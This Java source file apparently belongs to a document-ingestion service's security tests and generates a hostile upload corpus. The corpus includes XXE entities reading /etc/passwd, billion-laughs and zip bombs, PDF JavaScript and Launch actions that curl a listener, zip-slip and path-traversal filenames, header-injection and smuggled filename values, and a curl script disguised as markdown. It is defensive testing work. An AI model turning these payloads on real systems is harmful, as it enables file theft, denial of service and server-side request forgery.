package io.docmatrix.eval.abuse.uploads;

import static io.docmatrix.eval.abuse.uploads.Pdfs.ascii;
import static io.docmatrix.eval.abuse.uploads.Zips.utf8;

import io.docmatrix.eval.abuse.uploads.BadFile.Expect;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;

/**
 * Generates the hostile upload corpus: every file is built here, in memory, from a seed, so a run is repeatable and
 * nothing hostile is kept in the repository. Files that point outward (external entities, links, actions) point at
 * the harness's listener, so a parser that follows them is detected rather than guessed at.
 */
public final class BadInputCorpus {

    /** The gateway's and ingestion's limit, {@code gateway.max-upload-size} and {@code ingestion.max-file-size}. */
    public static final int SIZE_LIMIT = 50 * 1024 * 1024;

    static final String PDF = "application/pdf";
    static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    static final String ODT = "application/vnd.oasis.opendocument.text";
    /** What an XXE against {@code file:///etc/passwd} would pull into the text. */
    static final String PASSWD_LEAK = "root:x:0:0";

    private final String listenerUrl;
    private final String marker;
    private final boolean full;
    private final List<BadFile> files = new ArrayList<>();

    /**
     * @param listenerUrl where outward-pointing files point (the harness's listener)
     * @param marker a run-unique string in every traversal file name, so the blob-root scan can find escapes
     * @param full the whole corpus; otherwise the representative smoke sample
     */
    public BadInputCorpus(String listenerUrl, String marker, boolean full) {
        this.listenerUrl = listenerUrl.endsWith("/") ? listenerUrl : listenerUrl + "/";
        this.marker = marker;
        this.full = full;
    }

    public List<BadFile> generate() {
        sizes();
        pdfs();
        docx();
        zipBombs();
        otherFormats();
        polyglots();
        contentTypeLies();
        filenames();
        text();
        mutations();
        return full ? List.copyOf(files) : files.stream().filter(BadFile::smoke).toList();
    }

    private String url(String what) {
        return listenerUrl + what;
    }

    private void add(String family, String name, String filename, String type, byte[] content, boolean smoke) {
        files.add(new BadFile(family, name, filename, type, () -> content, Expect.FINAL, List.of(), smoke));
    }

    /** A large file, made only when it is sent. */
    private void addLazy(
            String family,
            String name,
            String filename,
            String type,
            java.util.function.Supplier<byte[]> content,
            Expect expect,
            boolean smoke) {
        files.add(new BadFile(family, name, filename, type, content, expect, List.of(), smoke));
    }

    private void add(
            String family,
            String name,
            String filename,
            String type,
            byte[] content,
            Expect expect,
            List<String> leaks,
            boolean smoke) {
        files.add(new BadFile(family, name, filename, type, () -> content, expect, leaks, smoke));
    }

    // ---------------------------------------------------------------------------------------------------------------

    private void sizes() {
        add("size", "empty", "empty.txt", "text/plain", new byte[0], Expect.REFUSED_400, List.of(), true);
        add("size", "one-byte", "one.txt", "text/plain", ascii("a"), true);
        addLazy(
                "size",
                "at-limit",
                "at-limit.txt",
                "text/plain",
                () -> textOfSize(SIZE_LIMIT),
                Expect.NOT_TOO_LARGE,
                true);
        addLazy(
                "size",
                "over-limit",
                "over-limit.txt",
                "text/plain",
                () -> textOfSize(SIZE_LIMIT + 1),
                Expect.REFUSED_413,
                true);
        if (full) {
            addLazy(
                    "size",
                    "just-under-limit",
                    "under-limit.txt",
                    "text/plain",
                    () -> textOfSize(SIZE_LIMIT - 1),
                    Expect.NOT_TOO_LARGE,
                    false);
            addLazy(
                    "size",
                    "pdf-over-limit",
                    "over.pdf",
                    PDF,
                    () -> padPdf(SIZE_LIMIT + 1024),
                    Expect.REFUSED_413,
                    false);
        }
    }

    private static byte[] textOfSize(int size) {
        byte[] line = ascii("The parties agree that this sentence repeats to fill the file to its size. ");
        byte[] out = new byte[size];
        for (int i = 0; i < size; i++) {
            out[i] = line[i % line.length];
        }
        return out;
    }

    private static byte[] padPdf(int size) {
        byte[] pdf = Pdfs.simple("padded");
        byte[] out = Arrays.copyOf(pdf, size);
        Arrays.fill(out, pdf.length, size, (byte) ' ');
        return out;
    }

    private void pdfs() {
        String js = "<< /Type /Action /S /JavaScript /JS (app.launchURL\\(\"" + url("pdf-js") + "\"\\); "
                + "this.submitForm\\(\"" + url("pdf-submit") + "\"\\);) >>";
        add(
                "pdf-active",
                "javascript-open-action",
                "js.pdf",
                PDF,
                Pdfs.page("Quarterly report", "/OpenAction 6 0 R", "", List.of(ascii(js))),
                true);
        add(
                "pdf-active",
                "javascript-names",
                "js-names.pdf",
                PDF,
                Pdfs.page(
                        "Names tree script",
                        "/Names << /JavaScript << /Names [(x) 6 0 R] >> >>",
                        "",
                        List.of(ascii(js))),
                full);
        add(
                "pdf-active",
                "launch-action",
                "launch.pdf",
                PDF,
                Pdfs.page(
                        "Invoice",
                        "/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c curl " + url("pdf-launch")
                                + ") >> >>",
                        "",
                        List.of()),
                true);
        add(
                "pdf-active",
                "uri-link",
                "uri.pdf",
                PDF,
                Pdfs.page(
                        "Click here",
                        "",
                        "/Annots [6 0 R]",
                        List.of(ascii("<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI ("
                                + url("pdf-uri") + ") >> >>"))),
                full);
        add(
                "pdf-active",
                "gotor-remote",
                "gotor.pdf",
                PDF,
                Pdfs.page(
                        "Remote",
                        "/OpenAction << /S /GoToR /F << /FS /URL /F (" + url("pdf-gotor") + ") >> /D [0 /Fit] >>",
                        "",
                        List.of()),
                full);
        add(
                "pdf-active",
                "submit-form",
                "form.pdf",
                PDF,
                Pdfs.page(
                        "Form",
                        "/AcroForm << /Fields [] >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (" + url("pdf-form")
                                + ") >> >>",
                        "",
                        List.of()),
                full);
        String attached = "ATTACHMENT-SECRET-" + marker;
        add(
                "pdf-active",
                "embedded-file",
                "attach.pdf",
                PDF,
                Pdfs.page(
                        "Cover letter",
                        "/Names << /EmbeddedFiles << /Names [(secret.txt) 6 0 R] >> >>",
                        "",
                        List.of(
                                ascii("<< /Type /Filespec /F (secret.txt) /EF << /F 7 0 R >> >>"),
                                Pdfs.streamObject("/Type /EmbeddedFile", ascii(attached), false))),
                Expect.FINAL,
                List.of(attached),
                true);
        add(
                "pdf-active",
                "xfa-external-entity",
                "xfa.pdf",
                PDF,
                Pdfs.page(
                        "XFA form",
                        "/AcroForm << /Fields [] /XFA 6 0 R >>",
                        "",
                        List.of(Pdfs.streamObject(
                                "",
                                utf8("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"" + url("pdf-xfa")
                                        + "\">]><xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\">&e;</xdp:xdp>"),
                                false))),
                true);
        // Structural attacks: recursion, loops, a decompression bomb in a content stream.
        StringBuilder nested = new StringBuilder();
        nested.append("[".repeat(full ? 100_000 : 20_000)).append("]".repeat(full ? 100_000 : 20_000));
        add(
                "pdf-structure",
                "deep-array-nesting",
                "nested.pdf",
                PDF,
                Pdfs.page("Nested", "/Nest 6 0 R", "", List.of(ascii(nested.toString()))),
                true);
        add(
                "pdf-structure",
                "dictionary-nesting",
                "dict-nested.pdf",
                PDF,
                Pdfs.page(
                        "Dict",
                        "/Nest 6 0 R",
                        "",
                        List.of(ascii("<< /A ".repeat(20_000) + "1" + " >>".repeat(20_000)))),
                full);
        add(
                "pdf-structure",
                "page-tree-loop",
                "loop.pdf",
                PDF,
                Pdfs.assemble(
                        List.of(
                                ascii("<< /Type /Catalog /Pages 2 0 R >>"),
                                ascii("<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"),
                                ascii("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>")),
                        "/Root 1 0 R"),
                true);
        add("pdf-structure", "xref-prev-loop", "xref-loop.pdf", PDF, selfReferencingXref(), full);
        addLazy(
                "pdf-structure",
                "stream-decompression-bomb",
                "flate-bomb.pdf",
                PDF,
                () -> Pdfs.page(
                        "Bomb", "", "", List.of(Pdfs.streamObject("", new byte[full ? 100 << 20 : 40 << 20], true))),
                Expect.FINAL,
                true);
        addLazy(
                "pdf-structure",
                "content-stream-bomb",
                "content-bomb.pdf",
                PDF,
                () -> contentBomb(full ? 50 << 20 : 20 << 20),
                Expect.FINAL,
                full);
        add(
                "pdf-structure",
                "huge-page-count-claim",
                "pages.pdf",
                PDF,
                Pdfs.assemble(
                        List.of(
                                ascii("<< /Type /Catalog /Pages 2 0 R >>"),
                                ascii("<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"),
                                ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>")),
                        "/Root 1 0 R"),
                full);
        add(
                "pdf-structure",
                "no-xref",
                "noxref.pdf",
                PDF,
                ascii("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF"),
                full);
        add("pdf-structure", "header-only", "header.pdf", PDF, ascii("%PDF-1.7\n"), true);
    }

    private static byte[] selfReferencingXref() {
        byte[] pdf = Pdfs.simple("loop");
        String text = new String(pdf, StandardCharsets.ISO_8859_1);
        int xref = text.lastIndexOf("startxref\n") + "startxref\n".length();
        String offset = text.substring(xref, text.indexOf('\n', xref));
        return ascii(text.replace("/Root 1 0 R", "/Root 1 0 R /Prev " + offset));
    }

    private static byte[] contentBomb(int size) {
        byte[] repeated = ascii("BT /F1 12 Tf 72 720 Td (spam spam spam) Tj ET\n");
        byte[] content = new byte[size];
        for (int i = 0; i < size; i++) {
            content[i] = repeated[i % repeated.length];
        }
        return Pdfs.assemble(
                List.of(
                        ascii("<< /Type /Catalog /Pages 2 0 R >>"),
                        ascii("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
                        ascii("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                                + "/Resources << /Font << /F1 5 0 R >> >> >>"),
                        Pdfs.streamObject("", content, true),
                        ascii("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")),
                "/Root 1 0 R");
    }

    private void docx() {
        String body = Zips.paragraph("The supplier shall deliver the goods.");
        add("docx-xml", "valid", "valid.docx", DOCX, Zips.docx(Zips.documentXml("", body)), true);
        add(
                "docx-xml",
                "xxe-local-file",
                "xxe-file.docx",
                DOCX,
                Zips.docx(Zips.documentXml(
                        "<!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n",
                        Zips.paragraph("Leak: &xxe;"))),
                Expect.FINAL,
                List.of(PASSWD_LEAK),
                true);
        add(
                "docx-xml",
                "xxe-http",
                "xxe-http.docx",
                DOCX,
                Zips.docx(Zips.documentXml(
                        "<!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"" + url("docx-xxe") + "\">]>\n",
                        Zips.paragraph("Fetch: &xxe;"))),
                true);
        add(
                "docx-xml",
                "xxe-parameter-entity",
                "xxe-param.docx",
                DOCX,
                Zips.docx(Zips.documentXml(
                        "<!DOCTYPE w:document [<!ENTITY % p SYSTEM \"" + url("docx-param") + "\"> %p;]>\n", body)),
                true);
        add(
                "docx-xml",
                "external-dtd",
                "dtd.docx",
                DOCX,
                Zips.docx(Zips.documentXml("<!DOCTYPE w:document SYSTEM \"" + url("docx-dtd") + "\">\n", body)),
                true);
        add(
                "docx-xml",
                "billion-laughs",
                "laughs.docx",
                DOCX,
                Zips.docx(Zips.documentXml(laughs(), Zips.paragraph("&l9;"))),
                true);
        add(
                "docx-xml",
                "quadratic-blowup",
                "quadratic.docx",
                DOCX,
                Zips.docx(Zips.documentXml(
                        "<!DOCTYPE w:document [<!ENTITY a \"" + "x".repeat(50_000) + "\">]>\n",
                        Zips.paragraph("&a;".repeat(20_000)))),
                full);
        add(
                "docx-xml",
                "xinclude",
                "xinclude.docx",
                DOCX,
                Zips.docx(Zips.documentXml(
                        "",
                        "<w:p xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + url("docx-xinclude")
                                + "\" parse=\"text\"/></w:p>" + body)),
                full);
        add(
                "docx-xml",
                "xxe-in-content-types",
                "xxe-types.docx",
                DOCX,
                xxeInPart("[Content_Types].xml", Zips.CONTENT_TYPES, body),
                full);
        add("docx-xml", "xxe-in-rels", "xxe-rels.docx", DOCX, xxeInPart("_rels/.rels", Zips.ROOT_RELS, body), full);
        add(
                "docx-xml",
                "xxe-in-core-properties",
                "xxe-core.docx",
                DOCX,
                Zips.docx(
                        Zips.documentXml("", body),
                        Map.of(
                                "docProps/core.xml",
                                utf8(
                                        "<?xml version=\"1.0\"?><!DOCTYPE cp [<!ENTITY e SYSTEM \""
                                                + url("docx-core") + "\">]><cp:coreProperties "
                                                + "xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\" "
                                                + "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>&e;</dc:title></cp:coreProperties>"))),
                true);
        add(
                "docx-xml",
                "external-relationships",
                "external-rels.docx",
                DOCX,
                Zips.docx(
                        Zips.documentXml("", body),
                        Map.of(
                                "word/_rels/document.xml.rels",
                                utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
                                        + "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                                        + "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                        + "relationships/image\" Target=\"" + url("docx-image")
                                        + "\" TargetMode=\"External\"/>"
                                        + "<Relationship Id=\"rId8\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                        + "relationships/attachedTemplate\" Target=\"" + url("docx-template")
                                        + "\" TargetMode=\"External\"/>"
                                        + "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                                        + "relationships/oleObject\" Target=\"" + url("docx-ole")
                                        + "\" TargetMode=\"External\"/>"
                                        + "</Relationships>"))),
                true);
        add(
                "docx-xml",
                "deep-element-nesting",
                "deep.docx",
                DOCX,
                Zips.docx(Zips.documentXml(
                        "",
                        "<w:p><w:r><w:t>start</w:t></w:r></w:p>"
                                + "<w:sdt><w:sdtContent>".repeat(full ? 50_000 : 10_000)
                                + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>"
                                + "</w:sdtContent></w:sdt>".repeat(full ? 50_000 : 10_000))),
                true);
        add(
                "docx-xml",
                "many-attributes",
                "attrs.docx",
                DOCX,
                Zips.docx(Zips.documentXml("", "<w:p " + manyAttributes(20_000) + "><w:r><w:t>x</w:t></w:r></w:p>")),
                full);
        add("docx-xml", "malformed-xml", "malformed.docx", DOCX, Zips.docx("<w:document><w:body><w:p>"), full);
        add(
                "docx-xml",
                "zip-slip-entry",
                "slip.docx",
                DOCX,
                Zips.docx(
                        Zips.documentXml("", body),
                        Map.of(
                                "../../../../../../tmp/" + marker + "-zipslip.txt", utf8("escaped"),
                                "..\\..\\..\\" + marker + "-zipslip-win.txt", utf8("escaped"))),
                true);
        add(
                "odt-xml",
                "odt-xxe-http",
                "xxe.odt",
                ODT,
                Zips.odt(Zips.odtContent(
                        "<!DOCTYPE office:document-content [<!ENTITY e SYSTEM \"" + url("odt-xxe") + "\">]>\n", "&e;")),
                true);
        add(
                "odt-xml",
                "odt-xxe-file",
                "xxe-file.odt",
                ODT,
                Zips.odt(Zips.odtContent(
                        "<!DOCTYPE office:document-content [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n", "&e;")),
                Expect.FINAL,
                List.of(PASSWD_LEAK),
                full);
        add(
                "odt-xml",
                "odt-laughs",
                "laughs.odt",
                ODT,
                Zips.odt(Zips.odtContent(laughs().replace("w:document", "office:document-content"), "&l9;")),
                full);
    }

    private byte[] xxeInPart(String part, String original, String body) {
        String hostile = original.replaceFirst(
                        "\\?>\\n?", "?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"" + url("docx-part") + "\">]>\n")
                .replace("</", "&e;</");
        Map<String, byte[]> entries = new java.util.LinkedHashMap<>();
        entries.put("[Content_Types].xml", utf8(part.equals("[Content_Types].xml") ? hostile : Zips.CONTENT_TYPES));
        entries.put("_rels/.rels", utf8(part.equals("_rels/.rels") ? hostile : Zips.ROOT_RELS));
        entries.put("word/document.xml", utf8(Zips.documentXml("", body)));
        return Zips.zip(entries);
    }

    private static String laughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE w:document [<!ENTITY l0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY l")
                    .append(i)
                    .append(" \"")
                    .append(("&l" + (i - 1) + ";").repeat(10))
                    .append("\">");
        }
        return dtd.append("]>\n").toString();
    }

    private static String manyAttributes(int n) {
        StringBuilder attributes = new StringBuilder();
        for (int i = 0; i < n; i++) {
            attributes.append("a").append(i).append("=\"v\" ");
        }
        return attributes.toString();
    }

    private void zipBombs() {
        String body = Zips.documentXml("", Zips.paragraph("Bomb"));
        add(
                "zip-bomb",
                "high-ratio",
                "ratio.docx",
                DOCX,
                Zips.docxWithZeros(body, "word/media/zeros.bin", full ? 600L << 20 : 100L << 20),
                true);
        addLazy(
                "zip-bomb",
                "high-ratio-document-part",
                "ratio-part.docx",
                DOCX,
                () -> Zips.docx(Zips.documentXml("", Zips.paragraph("a".repeat(full ? 40 << 20 : 8 << 20)))),
                Expect.FINAL,
                full);
        byte[] inner = Zips.docxWithZeros(body, "zeros.bin", 20L << 20);
        add(
                "zip-bomb",
                "nested-archive",
                "nested.docx",
                DOCX,
                Zips.docx(
                        body,
                        Map.of(
                                "word/inner.zip",
                                Zips.zip(Map.of("inner2.zip", Zips.zip(Map.of("inner3.docx", inner)))))),
                true);
        add(
                "zip-bomb",
                "nested-docx-in-docx",
                "nested2.docx",
                DOCX,
                Zips.docx(body, Map.of("word/attached.docx", inner)),
                full);
        add(
                "zip-bomb",
                "overlapping-entries",
                "overlap.docx",
                DOCX,
                Zips.overlapping(utf8(Zips.documentXml("", Zips.paragraph("x".repeat(1 << 20)))), full ? 5_000 : 500),
                true);
        Map<String, byte[]> many = new java.util.LinkedHashMap<>();
        for (int i = 0; i < (full ? 20_000 : 6_000); i++) {
            many.put("word/media/e" + i + ".xml", utf8("<x/>"));
        }
        add("zip-bomb", "many-entries", "many.docx", DOCX, Zips.docx(body, many), true);
        add("zip-bomb", "bare-zip-as-docx", "bare.docx", DOCX, Zips.zip(Map.of("a.txt", utf8("hello"))), full);
    }

    private void otherFormats() {
        add(
                "rtf",
                "include-picture-url",
                "pic.rtf",
                "application/rtf",
                ascii("{\\rtf1\\ansi {\\field{\\*\\fldinst " + "INCLUDEPICTURE \"" + url("rtf-picture")
                        + "\" \\\\d}{\\fldrslt x}} Terms apply.}"),
                true);
        add(
                "rtf",
                "template-url",
                "template.rtf",
                "application/rtf",
                ascii("{\\rtf1\\ansi{\\*\\template " + url("rtf-template") + "} Body text.}"),
                full);
        add(
                "rtf",
                "object-autolink",
                "object.rtf",
                "application/rtf",
                ascii("{\\rtf1{\\object\\objautlink\\rsltpict"
                        + "{\\*\\objclass Word.Document.8}{\\*\\objdata 0105000002000000}} after}"),
                full);
        add(
                "rtf",
                "deep-groups",
                "deep.rtf",
                "application/rtf",
                ascii("{\\rtf1 " + "{".repeat(full ? 200_000 : 50_000) + "x" + "}".repeat(full ? 200_000 : 50_000)
                        + "}"),
                true);
        add(
                "html",
                "external-resources",
                "page.html",
                "text/html",
                utf8("<html><head><link rel=stylesheet href=\""
                        + url("html-css") + "\"><script src=\"" + url("html-script")
                        + "\"></script><meta http-equiv=refresh "
                        + "content=\"0;url=" + url("html-refresh") + "\"></head><body><img src=\"" + url("html-img")
                        + "\"><iframe src=\"" + url("html-iframe") + "\"></iframe><object data=\"" + url("html-object")
                        + "\"></object><p>Visible text.</p></body></html>"),
                true);
        add(
                "html",
                "xhtml-xxe",
                "xxe.xhtml",
                "application/xhtml+xml",
                utf8("<?xml version=\"1.0\"?><!DOCTYPE html ["
                        + "<!ENTITY e SYSTEM \"" + url("xhtml-xxe")
                        + "\">]><html xmlns=\"http://www.w3.org/1999/xhtml\">"
                        + "<body><p>&e;</p></body></html>"),
                true);
        add(
                "html",
                "svg-script",
                "image.html",
                "text/html",
                utf8("<html><body><svg xmlns:xlink="
                        + "\"http://www.w3.org/1999/xlink\"><image xlink:href=\"" + url("svg-image")
                        + "\"/><script>fetch('"
                        + url("svg-fetch") + "')</script></svg><p>Text</p></body></html>"),
                full);
        add(
                "html",
                "deep-nesting",
                "deep.html",
                "text/html",
                utf8("<html><body>" + "<div>".repeat(full ? 100_000 : 20_000) + "deep"
                        + "</div>".repeat(full ? 100_000 : 20_000) + "</body></html>"),
                true);
        add("doc", "ole-garbage", "old.doc", "application/msword", oleHeaderGarbage(), full);
    }

    private static byte[] oleHeaderGarbage() {
        byte[] bytes = new byte[8192];
        new Random(7).nextBytes(bytes);
        byte[] magic = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(magic, 0, bytes, 0, magic.length);
        return bytes;
    }

    private void polyglots() {
        byte[] pdf = Pdfs.simple("polyglot pdf");
        byte[] docx = Zips.docx(Zips.documentXml("", Zips.paragraph("polyglot docx")));
        add("polyglot", "pdf-then-zip", "poly.pdf", PDF, concat(pdf, docx), true);
        add("polyglot", "zip-then-pdf", "poly.docx", DOCX, concat(docx, pdf), true);
        add(
                "polyglot",
                "html-in-pdf",
                "poly-html.pdf",
                PDF,
                concat(ascii("%PDF-1.4\n<html><script>alert(1)</script>"), pdf),
                full);
        add(
                "polyglot",
                "gif-javascript",
                "gifar.txt",
                "text/plain",
                ascii("GIF89a/*\u0001\u0000\u0001\u0000\u0000\u0000*/=1;alert(document.domain);//"),
                full);
        add(
                "polyglot",
                "jpeg-with-pdf",
                "photo.pdf",
                PDF,
                concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0}, pdf),
                full);
        add("polyglot", "pdf-header-late", "late.pdf", PDF, concat(new byte[900], pdf), full);
    }

    private void contentTypeLies() {
        byte[] pdf = Pdfs.simple("A real PDF");
        byte[] docx = Zips.docx(Zips.documentXml("", Zips.paragraph("A real DOCX")));
        byte[] exe = concat(ascii("MZ\u0090\u0000\u0003\u0000\u0000\u0000"), new byte[4096]);
        byte[] elf = concat(new byte[] {0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, new byte[4096]);
        byte[] png = concat(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'}, new byte[1024]);
        add("content-type-lie", "pdf-as-text", "report.txt", "text/plain", pdf, true);
        add("content-type-lie", "docx-as-pdf", "contract.pdf", PDF, docx, true);
        add("content-type-lie", "exe-as-pdf", "invoice.pdf", PDF, exe, true);
        add("content-type-lie", "elf-as-docx", "memo.docx", DOCX, elf, full);
        add("content-type-lie", "png-as-text", "notes.txt", "text/plain", png, full);
        add(
                "content-type-lie",
                "html-as-text",
                "notes2.txt",
                "text/plain",
                utf8("<html><script src=\"" + url("lie-script") + "\"></script><p>hi</p></html>"),
                full);
        add(
                "content-type-lie",
                "script-as-markdown",
                "run.md",
                "text/markdown",
                utf8("#!/bin/sh\ncurl " + url("lie-sh") + "\n"),
                full);
        add("content-type-lie", "no-part-type", "untyped.pdf", null, pdf, full);
        add("content-type-lie", "garbage-part-type", "weird.pdf", "x/y; charset=\u0000\r\n", pdf, full);
    }

    private void filenames() {
        byte[] text = ascii("A harmless note about filenames.");
        String m = marker;
        List<String[]> names = List.of(
                new String[] {"traversal-dots", "../../../../../../tmp/" + m + "-a.txt"},
                new String[] {"traversal-backslash", "..\\..\\..\\..\\" + m + "-b.txt"},
                new String[] {"traversal-absolute", "/etc/" + m + "-c.txt"},
                new String[] {"traversal-encoded", "%2e%2e%2f%2e%2e%2f" + m + "-d.txt"},
                new String[] {"traversal-double-encoded", "%252e%252e%252f" + m + "-e.txt"},
                new String[] {"traversal-unicode-dots", "\u2025/\u2025/" + m + "-f.txt"},
                new String[] {"traversal-overlong-utf8", "\u00c0\u00ae\u00c0\u00ae/" + m + "-g.txt"},
                new String[] {"traversal-into-blob-root", "../blobs/../../" + m + "-h.txt"},
                new String[] {"windows-drive", "C:\\Windows\\" + m + "-i.txt"},
                new String[] {"unc-path", "\\\\evil\\share\\" + m + "-j.txt"},
                new String[] {"nul-byte", m + "-k.txt\u0000.pdf"},
                new String[] {"crlf-header-injection", m + "-l.txt\r\nX-Injected: 1\r\n\r\n"},
                new String[] {"bidi-override", m + "-m\u202Etxt.exe"},
                new String[] {"zero-width", m + "\u200B\u200D-n.txt"},
                new String[] {"extreme-length", m + "-o" + "a".repeat(10_000) + ".txt"},
                new String[] {"only-dots", ".."},
                new String[] {"empty-name", ""},
                new String[] {"control-characters", m + "-p\u0007\u001b[31m.txt"},
                new String[] {"reserved-device", "CON.txt"},
                new String[] {"trailing-dot-space", m + "-q.txt. . ."},
                new String[] {"quotes-and-semicolon", m + "-r\"; filename=\"evil.sh"},
                new String[] {"emoji-and-rtl", m + "-s\uD83D\uDE00\u05D0\u05D1.txt"});
        for (int i = 0; i < names.size(); i++) {
            String[] name = names.get(i);
            add("filename", name[0], name[1], "text/plain", text, full || i % 2 == 0);
        }
    }

    private void text() {
        add("text", "nul-bytes", "nul.txt", "text/plain", ascii("before\u0000\u0000\u0000after the nul bytes"), true);
        add(
                "text",
                "invalid-utf8",
                "bad-utf8.txt",
                "text/plain",
                concat(
                        ascii("valid "),
                        new byte[] {(byte) 0xC3, 0x28, (byte) 0xA0, (byte) 0xA1, (byte) 0xF0, 0x28, (byte) 0x8C, 0x28}),
                true);
        add(
                "text",
                "utf16-bom",
                "utf16.txt",
                "text/plain",
                concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, "UTF-16 text here".getBytes(StandardCharsets.UTF_16LE)),
                full);
        add(
                "text",
                "bidi-text",
                "bidi.txt",
                "text/plain",
                utf8("Pay \u202Eevif\u202C hundred dollars \u2066x\u2069"),
                full);
        add("text", "one-long-line", "line.txt", "text/plain", ascii("x".repeat(full ? 5_000_000 : 1_000_000)), true);
        add(
                "text",
                "long-word-no-spaces",
                "word.txt",
                "text/plain",
                ascii("supercalifragilistic".repeat(20_000)),
                full);
        add(
                "markdown",
                "deep-blockquote",
                "deep.md",
                "text/markdown",
                ascii(">".repeat(full ? 100_000 : 20_000) + " deep"),
                true);
        add("markdown", "deep-list", "list.md", "text/markdown", deepList(full ? 5_000 : 1_000), full);
        add(
                "markdown",
                "many-headings",
                "headings.md",
                "text/markdown",
                ascii("# h\n".repeat(full ? 200_000 : 20_000)),
                full);
        add(
                "markdown",
                "links-and-images",
                "links.md",
                "text/markdown",
                utf8("![x](" + url("md-image") + ") [y](" + url("md-link") + ")\n<img src=\"" + url("md-html-img")
                        + "\">"),
                true);
        add("text", "control-characters", "ctl.txt", "text/plain", ascii("a\u0001b\u0002c\u001bd\u007fe\u0008f"), full);
        add(
                "text",
                "unicode-combining-storm",
                "zalgo.txt",
                "text/plain",
                utf8("Z" + "\u0301\u0302\u0303".repeat(50_000)),
                full);
    }

    private static byte[] deepList(int depth) {
        StringBuilder list = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            list.append("  ".repeat(i)).append("- item ").append(i).append('\n');
        }
        return ascii(list.toString());
    }

    /** Truncated and bit-flipped copies of valid files: parsers meet corrupt input far more often than crafted one. */
    private void mutations() {
        byte[] pdf = Pdfs.page("Mutation base: the seller warrants title to the goods.", "", "", List.of());
        byte[] docx = Zips.docx(Zips.documentXml("", Zips.paragraph("Mutation base: the buyer pays within 30 days.")));
        byte[] odt = Zips.odt(Zips.odtContent("", "Mutation base for ODT."));
        byte[] rtf = ascii("{\\rtf1\\ansi Mutation base for RTF {\\b bold} text.}");
        int cuts = full ? 20 : 2;
        for (int i = 1; i <= cuts; i++) {
            double fraction = i / (double) (cuts + 1);
            add(
                    "truncated",
                    "pdf-" + i,
                    "cut" + i + ".pdf",
                    PDF,
                    Arrays.copyOf(pdf, (int) (pdf.length * fraction)),
                    true);
            add(
                    "truncated",
                    "docx-" + i,
                    "cut" + i + ".docx",
                    DOCX,
                    Arrays.copyOf(docx, (int) (docx.length * fraction)),
                    true);
        }
        int flips = full ? 40 : 3;
        Random random = new Random(20_26);
        for (int i = 1; i <= flips; i++) {
            add("bit-flip", "pdf-" + i, "flip" + i + ".pdf", PDF, flip(pdf, random, i), i <= 2);
            add("bit-flip", "docx-" + i, "flip" + i + ".docx", DOCX, flip(docx, random, i), i <= 2);
            if (full) {
                add("bit-flip", "odt-" + i, "flip" + i + ".odt", ODT, flip(odt, random, i), false);
                add("bit-flip", "rtf-" + i, "flip" + i + ".rtf", "application/rtf", flip(rtf, random, i), false);
            }
        }
    }

    /** {@code 1 + n % 8} random bits flipped; never the first 4 bytes, so the file still claims its format. */
    private static byte[] flip(byte[] original, Random random, int n) {
        byte[] copy = original.clone();
        int count = 1 + n % 8;
        for (int i = 0; i < count; i++) {
            int at = 4 + random.nextInt(copy.length - 4);
            copy[at] ^= (byte) (1 << random.nextInt(8));
        }
        return copy;
    }

    private static byte[] concat(byte[] a, byte[] b) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(a.length + b.length);
        out.writeBytes(a);
        out.writeBytes(b);
        return out.toByteArray();
    }
}
